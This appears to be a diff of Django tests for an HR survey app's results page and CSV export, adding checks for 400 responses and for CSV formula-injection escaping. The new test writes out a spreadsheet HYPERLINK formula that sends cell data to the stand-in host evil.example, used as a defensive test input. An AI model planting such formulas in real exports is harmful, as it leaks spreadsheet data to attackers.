@@ -319,15 +319,19 @@ def test_segment_under_k_requested_by_url_shows_no_figures(hr_client):
     assert byu and all(row[5] == "" and row[6] == "" for row in byu)
 
 
-def test_results_page_with_garbage_params_is_not_an_error(hr_client):
+def test_results_page_with_garbage_params_is_a_clear_400_not_an_error(hr_client):
     base = _closed_survey(kind="baseline", wave=1)
     follow = _closed_survey(kind="follow_up", wave=2, programme=base.programme)
     add_responses(base, 6)
     add_responses(follow, 6)
     url = reverse("surveys:survey_results", args=[follow.pk])
-    for params in ({"segment": "level", "value": "x"}, {"segment": "nope"}, {"segment": "sector", "value": "<b>"}):
-        assert hr_client.get(url, params).status_code == 200
-        assert hr_client.get(reverse("surveys:survey_results_csv", args=[follow.pk]), params).status_code == 200
+    csv_url = reverse("surveys:survey_results_csv", args=[follow.pk])
+    for params in ({"segment": "level", "value": "x"}, {"segment": "nope"}):
+        assert hr_client.get(url, params).status_code == 400
+        assert hr_client.get(csv_url, params).status_code == 400
+    # A group nobody is in is simply too small to show: the page, without figures for it.
+    assert hr_client.get(url, {"segment": "sector", "value": "<b>"}).status_code == 200
+    assert hr_client.get(csv_url, {"segment": "sector", "value": "<b>"}).status_code == 200
 
 
 def test_results_page_of_open_survey_shows_no_figures(hr_client):
@@ -430,3 +434,21 @@ def test_answer_page_uses_a_fixed_number_of_queries(client, django_assert_max_nu
     inv = InvitationFactory()
     with django_assert_max_num_queries(6):
         assert client.get(_answer_url(inv)).status_code == 200
+
+
+def test_results_csv_never_hands_excel_a_formula(hr_client):
+    """The title and question texts are HR's own text: written as text, never as a formula."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"klikk")'
+    survey = _closed_survey(title=evil)
+    question = survey.questionnaire.questions.order_by("order").first()
+    type(question).objects.filter(pk=question.pk).update(text="+SUM(A1)")
+    csv = hr_client.get(reverse("surveys:survey_results_csv", args=[survey.pk]))  # too few answers: one row
+    cells = [cell for line in csv.content.decode("utf-8-sig").splitlines() for cell in line.split(";")]
+    assert "'" + evil.replace('"', '""') in csv.content.decode("utf-8-sig")
+    assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells)
+    add_responses(survey, 6)
+    csv = hr_client.get(reverse("surveys:survey_results_csv", args=[survey.pk])).content.decode("utf-8-sig")
+    assert "'+SUM(A1)" in csv
+    assert not any(
+        cell.lstrip('"').startswith(("=", "+", "-", "@")) for line in csv.splitlines() for cell in line.split(";")
+    )
